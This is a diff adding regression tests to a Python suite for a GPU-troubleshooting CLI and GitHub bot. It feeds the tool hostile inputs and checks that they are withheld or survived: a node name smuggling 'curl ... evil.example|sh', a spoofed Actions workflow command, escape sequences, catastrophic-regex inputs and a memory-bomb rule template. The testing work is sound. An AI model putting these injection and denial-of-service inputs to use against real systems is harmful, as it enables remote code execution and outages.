@@ -884,6 +884,145 @@ def missing_file_name_with_escapes(d: Path) -> Run:
     return Run(["analyze", str(d / "gone\x1bc\x1b]0;pwned\x07.log")], [d])
 
 
+# ---- session 39's review: hangs, a stopped batch, a shell injection, event shapes -------------
+def _stdout_has(*words: str, code: tuple[int, ...] = (0, 1, 4)) -> Callable[[Any], None]:
+    def check(out) -> None:
+        assert out.code in code, (out.code, out.stderr[-2000:])
+        assert all(w in out.stdout for w in words), [w for w in words if w not in out.stdout]
+
+    return check
+
+
+@bounded(_code(0, 1, 4))
+def log_of_unterminated_osc_sequences(d: Path) -> Run:
+    """A klog line then 200,000 "ESC ]" with no BEL: the escape-sequence pattern read from each
+    to the end (quadratic: 65 s for 400 KB)."""
+    log = b"I0815 09:04:51.000000 1 main.go:1] start\n" + b"\x1b]" * 200_000 + b"\n"
+    return Run(["analyze", str(_bundle(d, {"device-plugin.log": log})), "-f", "json"], [d])
+
+
+@bounded(_code(0, 1, 4))
+def issue_of_unclosed_tags(d: Path) -> Run:
+    """An issue of 131,072 "<b" (no ">"): the HTML-tag pattern read from each to the end (75 s
+    for 256 KB, and the bot reads every comment of a thread again at each event)."""
+    d.mkdir(parents=True)
+    (d / "issue.md").write_text("# t\n\n```\nx\n```\n" + "<b" * 131_072)
+    return Run(["analyze", str(d / "issue.md"), "-f", "markdown"], [d])
+
+
+@bounded(_stdout_has("template error", "at most 100,000"))
+def rule_template_builds_gigabytes(d: Path) -> Run:
+    """A user's rule whose title multiplies a string by 2*10^8: 4 GB and more than a minute; a
+    constant one was folded at compile time (8.9 GB, then exit 3). Now a rule error."""
+    rules = d / "rules"
+    rules.mkdir(parents=True)
+    (rules / "evil.yaml").write_text(
+        "rules:\n  - id: evil-template\n    title: 'Evil {{ node * 200000000 }}'\n"
+        "    summary: s\n    severity: warning\n    kind: fault\n    category: runtime-other\n"
+        "    link: runtime\n    priority: 1\n    when:\n      fact: node.ready\n"
+        "      exists: true\n    explanation: e\n    remediation:\n      - text: t\n"
+        "    references: [x]\n"
+    )
+    bundle = _bundle(d / "b", {"node.yaml": NODE})
+    return Run(["analyze", str(bundle), "--rules", str(rules)], [d])
+
+
+@bounded(_code(0, 1))
+def batch_ticket_named_in_latin1(d: Path) -> Run:
+    """A ticket archive whose name is not UTF-8 (b"arc\\xfe.tar.gz") beside a good one: the
+    whole batch stopped with exit 3 (its digest and its table rows could not be encoded)."""
+    tickets = d / "t"
+    shutil.copytree(SAMPLES / "healthy-single-gpu" / "bundle", tickets / "good")
+    with tarfile.open(os.fsdecode(bytes(tickets) + b"/arc\xfe.tar.gz"), "w:gz") as tf:
+        tf.add(SAMPLE / "node.yaml", "node.yaml")
+    return Run(["batch", str(tickets), "--out", str(d / "out")], [tickets])
+
+
+def _node_named_as_command(name: str) -> str:
+    return NODE.replace("gpu-node-2", "'" + name + "'")
+
+
+@bounded(_stdout_has("VALUE-NOT-SHELL-SAFE"))
+def node_name_with_a_shell_command(d: Path) -> Run:
+    """A node named `gpu-1;curl${IFS}-s${IFS}evil.example|sh;#`: the fixes the bot posts put it
+    in `kubectl ... spec.nodeName=...` unquoted. A value that is not a shell word is withheld."""
+    evil = "gpu-1;curl${IFS}-s${IFS}evil.example|sh;#"
+    node = _node_named_as_command(evil)
+    bundle = _bundle(d, {"node.yaml": node, "device-plugin.log": PLUGIN_LOG})
+    return Run(["analyze", str(bundle), "-f", "markdown"], [d])
+
+
+@bounded(_error("no repository"))
+def bot_event_repository_a_string(d: Path) -> Run:
+    d.mkdir(parents=True)
+    event = {"action": "opened", "issue": {"number": 3, "title": "t", "body": "b"}}
+    (d / "e.json").write_text(json.dumps({**event, "repository": "octo/x"}))
+    return Run(["bot", "--event", str(d / "e.json"), "--dry-run"], [d])
+
+
+@bounded(_error("not a GitHub event"))
+def bot_event_comment_id_out_of_range(d: Path) -> Run:
+    d.mkdir(parents=True)
+    text = (
+        '{"action": "created", "issue": {"number": 3, "title": "t", "body": "b"}, '
+        '"repository": {"full_name": "octo/x"}, "comment": {"id": 1e400, "body": "x"}}'
+    )
+    (d / "e.json").write_text(text)
+    return Run(["bot", "--event", str(d / "e.json"), "--dry-run"], [d])
+
+
+def _no_workflow_command(out) -> None:
+    assert out.code == 0, (out.code, out.stderr[-2000:])
+    lines = out.stdout.splitlines()
+    commands = [ln for ln in lines if ln.startswith("::")]
+    token = lines[0].removeprefix("::stop-commands::")
+    assert lines[0].startswith("::stop-commands::") and lines[-1] == f"::{token}::", lines[:2]
+    assert "::error title=Spoofed::" in "\n".join(lines), "the paste is quoted"
+    assert len(commands) == 3, commands  # the pair, and the quoted line between them
+
+
+@bounded(_no_workflow_command)
+def bot_dry_run_quoting_a_workflow_command(d: Path) -> Run:
+    """A pasted line `::error title=Spoofed::...` printed by the bot's dry run at the start of a
+    line of the Actions log: the runner reads it as a command. Inside Actions the output goes
+    between ::stop-commands:: and its token."""
+    d.mkdir(parents=True)
+    body = (
+        "plugin log:\n\n```\n::error title=Spoofed::nvml Init err:  ERROR_LIBRARY_NOT_FOUND\n```\n"
+    )
+    event = {
+        "action": "opened",
+        "issue": {"number": 3, "title": "GPU node", "body": body, "user": {"login": "rep"}},
+        "repository": {"full_name": "octo/x"},
+    }
+    (d / "e.json").write_text(json.dumps(event))
+    return Run(["bot", "--event", str(d / "e.json"), "--dry-run"], [d], {"GITHUB_ACTIONS": "true"})
+
+
+@bounded(_error("is inside the output folder"))
+def batch_tickets_csv_inside_the_output_folder(d: Path) -> Run:
+    """`--tickets OUT/bundles.csv` with `--csv --force`: the CSV the user enriched was replaced."""
+    tickets = d / "t"
+    shutil.copytree(SAMPLES / "healthy-single-gpu" / "bundle", tickets / "T-1")
+    (d / "out").mkdir()
+    (d / "out" / "bundles.csv").write_text("ticket,customer\nT-1,ACME\n")
+    args = ["batch", str(tickets), "--out", str(d / "out"), "--csv", "--force"]
+    return Run(
+        [*args, "--tickets", str(d / "out" / "bundles.csv")], [tickets, d / "out" / "bundles.csv"]
+    )
+
+
+@bounded(_stdout_has("5050 code blocks: the first 200 read"))
+def issue_of_thousands_of_code_blocks(d: Path) -> Run:
+    """A 64 KB comment of 5,050 tiny fences: over the file limit, the whole thread failed (exit
+    2) at this event and at every later one. Now the post's first 200 blocks, and a warning."""
+    d.mkdir(parents=True)
+    (d / "issue.md").write_text(
+        "# t\n\n" + "~~~\nx{}\n~~~\n".join("" for _ in range(5051)).format(*range(5050))
+    )
+    return Run(["analyze", str(d / "issue.md"), "-f", "terminal"], [d])
+
+
 def batch_tickets_slow_to_extract(d: Path) -> Path:
     """Tickets whose first bundle takes seconds to extract (a 10 MB gzip'd log of 120 MB), for
     the run killed with SIGKILL mid-extraction: its workers' temporary folders stayed (3.3 GB
